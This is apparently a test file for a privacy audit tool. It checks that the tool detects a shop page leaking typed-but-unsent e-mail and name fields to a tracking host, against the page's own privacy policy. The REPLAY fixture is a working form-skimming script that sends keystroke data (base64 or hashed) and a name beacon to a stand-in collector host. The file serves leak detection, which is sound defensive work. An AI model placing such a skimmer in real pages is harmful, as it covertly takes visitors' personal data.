// `audit --canary`: a made-up address typed into a page, and who is sent it though nothing was submitted, from the field to the finding.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import test from 'node:test';
import { browsers, listen, run, scratch } from './lib.mjs';

const PAGE = `<!doctype html><html lang="en"><meta charset="utf-8"><title>Shop</title><p>Our letter. <a href="/privacy">Privacy policy</a></p>
<form action="/subscribe" method="post"><input type="email" id="mail" aria-label="E-mail"><input name="first" aria-label="First name"><input type="password" aria-label="Password"><button>Send</button></form>
<script src="http://replay.collector.test/r.js"></script>`;
const POLICY = '<!doctype html><html lang="en"><title>Privacy policy</title><h1>Privacy policy</h1><p>This privacy policy explains what our shop does.</p><p>We use cookies to keep your basket. We do not share your e-mail address with third parties.</p><p>If you have questions about your personal data, write to us.</p>';
/** Sends the digest of the address as soon as it is typed, and the name in a beacon when it is left. */
const REPLAY = `document.getElementById('mail').addEventListener('input', async (e) => {
  const bytes = new TextEncoder().encode(e.target.value);
  const hash = globalThis.crypto.subtle ? [...new Uint8Array(await crypto.subtle.digest('SHA-256', bytes))].map((b) => b.toString(16).padStart(2, '0')).join('') : btoa('{"m":"' + e.target.value + '"}');
  fetch('http://replay.collector.test/c', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ h: hash }) });
});
document.querySelector('[name=first]').addEventListener('change', (e) => navigator.sendBeacon('http://replay.collector.test/b?n=' + encodeURIComponent(e.target.value)));`;

for (const browser of browsers) {
  test(`in ${browser} an address that was typed and not sent off is found where it went`, { timeout: 120_000 }, async (t) => {
    const dir = scratch(t);
    const submitted = [];
    const server = http.createServer((request, response) => {
      if (request.url === '/subscribe') submitted.push(request.url);
      const body = { '/': PAGE, '/privacy': POLICY, '/r.js': REPLAY }[request.url];
      response.writeHead(body ? 200 : 404, { 'content-type': request.url === '/r.js' ? 'text/javascript' : 'text/html; charset=utf-8' });
      response.end(body);
    });
    const port = await listen(server);
    t.after(() => { server.closeAllConnections?.(); server.close(); });
    const out = path.join(dir, 'report.json');
    const maps = ['shop.example', 'replay.collector.test'].flatMap((host) => ['--map', `${host}:80=127.0.0.1:${port}`, '--map', `${host}:443=127.0.0.1:1`]);
    const { code, stderr } = await run(['audit', 'http://shop.example/', '--browser', browser, '--wait', '0.7', '--pages', '0', ...maps, '--canary', '--case', path.join(dir, 'case'), '--format', 'json', '-o', out, '--fail-on', 'never'],
      { home: path.join(dir, 'home') });
    assert.equal(code, 0, stderr);
    const report = JSON.parse(fs.readFileSync(out, 'utf8'));
    const leaks = report.techniques.filter((x) => x.technique === 'pii-leak').map((x) => x.detail).sort();
    assert.deepEqual(leaks, [
      'the e-mail address typed into the page, and not sent off by anyone, reached collector.test in the body of a request, as base64',
      'the text typed into the page, and not sent off by anyone, reached collector.test in the address',
    ], JSON.stringify(report.techniques, null, 1));
    assert.deepEqual(submitted, []);
    const finding = report.findings.find((f) => f.rule === 'personal-data-leak');
    assert.ok(finding, JSON.stringify(report.findings.map((f) => f.rule)));
    assert.equal(finding.strength, 'undeclared');
    assert.match(report.declaration.statements.find((s) => s.id === finding.statements[0]).quote, /do not share your e-mail/);
  });
}
